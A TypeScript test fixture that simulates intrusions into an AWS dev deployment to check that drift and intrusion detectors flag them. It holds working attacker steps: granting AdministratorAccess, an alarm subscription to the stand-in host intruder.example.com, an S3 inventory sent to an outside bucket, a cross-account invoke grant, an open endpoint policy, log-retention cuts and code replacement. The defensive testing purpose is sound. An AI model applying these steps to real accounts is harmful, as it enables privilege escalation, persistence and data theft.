import {
  ABROAD,
  type Argv,
  by,
  DATA,
  document,
  lambdaArn,
  ROTATOR,
  sqsArn,
  TRAIL_FILES,
  WORKLOAD,
  WORKLOAD_ROLE,
  zipFile,
} from './by-hand';
import { ACCOUNT, type Breakage } from './live-target';

const FUNCTION = ['--function-name', WORKLOAD];
const SENDING = ['--role-name', WORKLOAD_ROLE, '--policy-name', 'sending'];
const READING = ['--role-name', WORKLOAD_ROLE, '--policy-name', 'reading'];
/** Lambda asks whether a function's role may do what a queue needs. */
const QUEUES = document({ Effect: 'Allow', Action: 'sqs:*', Resource: '*' });
const ADMINISTRATOR = 'arn:aws:iam::aws:policy/AdministratorAccess';
const OF_ROTATOR = ['--role-name', `${ROTATOR}-us-east-1`, '--policy-arn', ADMINISTRATOR];
const LAYER = `arn:aws:lambda:us-east-1:${ACCOUNT}:layer:intruder:1`;

const TOPIC = `arn:aws:sns:us-east-1:${ACCOUNT}:intruder`;
const TRAIL_NOTIFIES = [
  ...['s3api', 'put-bucket-notification-configuration', '--bucket', TRAIL_FILES],
  '--notification-configuration',
];

/** More of the same kinds, which only `npm run intruder` tries. */
export const MORE_INTRUSIONS: readonly Breakage[] = [
  {
    check: 'functions-as-released',
    by: 'an alias of the workload',
    says: /it has the alias intruder, which no release made/,
    how: by(
      [
        ['lambda', 'publish-version', ...FUNCTION],
        ['lambda', 'create-alias', ...FUNCTION, '--name', 'intruder', '--function-version', '1'],
      ],
      [
        ['lambda', 'delete-alias', ...FUNCTION, '--name', 'intruder'],
        ['lambda', 'delete-function', ...FUNCTION, '--qualifier', '1'],
      ],
    ),
  },
  {
    check: 'functions-as-released',
    by: 'a destination that hears what the workload was asked',
    says: /it tells arn:aws:sqs:us-east-1:222222222222:rotate-key-ring-dev-dead-letters what it was asked/,
    how: by(
      [
        ['iam', 'put-role-policy', ...SENDING, '--policy-document', QUEUES],
        [
          ...['lambda', 'put-function-event-invoke-config', ...FUNCTION, '--destination-config'],
          JSON.stringify({ OnSuccess: { Destination: sqsArn(`${ROTATOR}-dead-letters`) } }),
        ],
      ],
      [
        ['lambda', 'delete-function-event-invoke-config', ...FUNCTION],
        ['iam', 'delete-role-policy', ...SENDING],
      ],
    ),
  },
  {
    check: 'buckets-copy-nowhere',
    by: 'somebody who is told of every file of the trail',
    says: /arn:aws:sns:us-east-1:222222222222:intruder is told of its objects/,
    how: by(
      [
        // S3 asks whether the topic lets it in.
        [
          ...['sns', 'create-topic', '--name', 'intruder', '--attributes'],
          JSON.stringify({
            Policy: document({ Effect: 'Allow', Principal: '*', Action: 'sns:Publish', Resource: TOPIC }),
          }),
        ],
        [
          ...TRAIL_NOTIFIES,
          JSON.stringify({ TopicConfigurations: [{ TopicArn: TOPIC, Events: ['s3:ObjectCreated:*'] }] }),
        ],
      ],
      [
        [...TRAIL_NOTIFIES, '{}'],
        ['sns', 'delete-topic', '--topic-arn', TOPIC],
      ],
    ),
  },
  {
    check: 'secrets-encrypted',
    by: "a copy of the key ring's secret in another region",
    says: /it is copied to eu-west-1, which no release did/,
    how: by(
      [
        [
          ...['secretsmanager', 'replicate-secret-to-regions', '--secret-id', 'data-processing/key-ring-dev'],
          ...['--add-replica-regions', 'Region=eu-west-1'],
        ],
      ],
      [
        [
          ...['secretsmanager', 'remove-regions-from-replication', '--secret-id', 'data-processing/key-ring-dev'],
          ...['--remove-replica-regions', 'eu-west-1'],
        ],
      ],
    ),
  },
  {
    check: 'roles-as-released',
    by: "AdministratorAccess on the rotator's role",
    says: /it has the policy arn:aws:iam::aws:policy\/AdministratorAccess, which no release attached/,
    how: by([['iam', 'attach-role-policy', ...OF_ROTATOR]], [['iam', 'detach-role-policy', ...OF_ROTATOR]]),
  },
  {
    check: 'alarm-subscribers',
    by: 'an https subscriber of the alarms',
    says: /no release subscribed it, and it hears every alarm/,
    how: async (target) => {
      const TopicArn = `arn:aws:sns:us-east-1:${ACCOUNT}:data-alarms-dev`;
      const input = { TopicArn, Protocol: 'https', Endpoint: 'https://intruder.example.com/alarms' };
      const { SubscriptionArn } = await target.call('sns', 'Subscribe', { ...input, ReturnSubscriptionArn: true });
      return () => target.aws('sns', 'unsubscribe', '--subscription-arn', String(SubscriptionArn));
    },
  },
  {
    check: 'functions-as-released',
    by: 'a queue that feeds the workload',
    says: /it is fed by arn:aws:sqs:us-east-1:222222222222:intruder, which no release connected/,
    how: async (target) => {
      await target.aws('iam', 'put-role-policy', ...READING, '--policy-document', QUEUES);
      // No shorter than the function may take.
      const queue = { QueueName: 'intruder', Attributes: { VisibilityTimeout: '900' } };
      const { QueueUrl } = await target.call('sqs', 'CreateQueue', queue);
      const input = { FunctionName: WORKLOAD, EventSourceArn: sqsArn('intruder') };
      const { UUID } = await target.call('lambda', 'CreateEventSourceMapping', input);
      return async () => {
        await target.aws('lambda', 'delete-event-source-mapping', '--uuid', String(UUID));
        await target.call('sqs', 'DeleteQueue', { QueueUrl });
        await target.aws('iam', 'delete-role-policy', ...READING);
      };
    },
  },
  {
    check: 'functions-as-released',
    by: 'a permission under a statement id of the release',
    says: /its policy lets everybody of account 333333333333 in/,
    how: async (target) => {
      const { Policy: policy } = await target.call('lambda', 'GetPolicy', { FunctionName: WORKLOAD });
      const { Statement: statements } = JSON.parse(String(policy)) as {
        readonly Statement: readonly { readonly Sid: string; readonly Condition?: Record<string, object> }[];
      };
      const [{ Sid: id, Condition: condition = {} } = { Sid: '' }] = statements;
      const bonds: Readonly<Record<string, string>> = Object.assign({}, ...Object.values(condition));
      const named = [...FUNCTION, '--statement-id', id];
      const add = ['lambda', 'add-permission', ...named, '--action', 'lambda:InvokeFunction', '--principal'];
      const remove = ['lambda', 'remove-permission', ...named];
      const before = [
        ...['s3.amazonaws.com', '--source-arn', bonds['AWS:SourceArn'] ?? ''],
        ...['--source-account', bonds['AWS:SourceAccount'] ?? ''],
      ];
      return by([remove, [...add, `arn:aws:iam::${ABROAD}:root`]], [remove, [...add, ...before]])(target);
    },
  },
  {
    check: 'stacks-stand-as-released',
    by: 'a target of the rule that tells of endangered keys',
    says: /it has at \/Targets\/\d what no release put there: .*function:intruder-target/,
    how: async (target) => {
      const rule = ['--rule', target.id('Events::Rule', 'AlarmsEndangeredKey')];
      return by(
        [['events', 'put-targets', ...rule, '--targets', `Id=intruder,Arn=${lambdaArn('intruder-target')}`]],
        [['events', 'remove-targets', ...rule, '--ids', 'intruder']],
      )(target);
    },
  },
  {
    check: 'stacks-stand-as-released',
    by: 'an endpoint that serves everybody',
    says: /it (lacks|has at) \/PolicyDocument\/Statement\/0/,
    how: async (target) => {
      const id = target.id('EC2::VPCEndpoint', 'NetworkS3Endpoint');
      const { VpcEndpoints: found } = await target.call('ec2', 'DescribeVpcEndpoints', { VpcEndpointIds: [id] });
      const [{ PolicyDocument: before } = { PolicyDocument: '' }] = found as { PolicyDocument: string }[];
      const put = (policy: string): Argv => [
        ...['ec2', 'modify-vpc-endpoint', '--vpc-endpoint-id', id, '--policy-document', policy],
      ];
      const open = document({ Effect: 'Allow', Principal: '*', Action: '*', Resource: '*' });
      return by([put(open)], [put(before)])(target);
    },
  },
  {
    check: 'stacks-stand-as-released',
    by: 'a log group that keeps its events for a day',
    says: /it has at \/RetentionInDays 1, by the release 90/,
    how: by(
      [['logs', 'put-retention-policy', '--log-group-name', '/data/dev/trail', '--retention-in-days', '1']],
      [['logs', 'put-retention-policy', '--log-group-name', '/data/dev/trail', '--retention-in-days', '90']],
    ),
  },
];

/** What nothing here puts right: only the next release's code does, and the emulator cannot delete an inventory. */
export const NOT_UNDONE: readonly Breakage[] = [
  {
    check: 'buckets-copy-nowhere',
    by: 'an inventory of the data bucket that goes abroad',
    says: /lists of its objects go to arn:aws:s3:::abroad/,
    how: by(
      [
        [
          ...['s3api', 'put-bucket-inventory-configuration', '--bucket', DATA, '--id', 'intruder'],
          '--inventory-configuration',
          JSON.stringify({
            Id: 'intruder',
            IsEnabled: true,
            IncludedObjectVersions: 'All',
            Schedule: { Frequency: 'Daily' },
            Destination: { S3BucketDestination: { Bucket: 'arn:aws:s3:::abroad', Format: 'CSV' } },
          }),
        ],
      ],
      [],
    ),
  },
  {
    check: 'functions-as-released',
    by: 'a layer of the workload',
    says: /it runs the layer arn:aws:lambda:us-east-1:222222222222:layer:intruder:1, which no release gave it/,
    how: async (target) => {
      const layer = ['--layer-name', 'intruder'];
      await target.aws('lambda', 'publish-layer-version', ...layer, '--zip-file', zipFile());
      await target.aws('lambda', 'update-function-configuration', ...FUNCTION, '--layers', LAYER);
      return async () => undefined;
    },
  },
  {
    check: 'functions-as-released',
    by: "other code in the workload's place",
    says: /its code or configuration was changed at .*, after CloudFormation did it for the last time at/,
    how: async (target) => {
      await new Promise((resolve) => setTimeout(resolve, 6_000)); // more than clocks may differ
      await target.aws('lambda', 'update-function-code', ...FUNCTION, '--zip-file', zipFile());
      return async () => undefined;
    },
  },
];
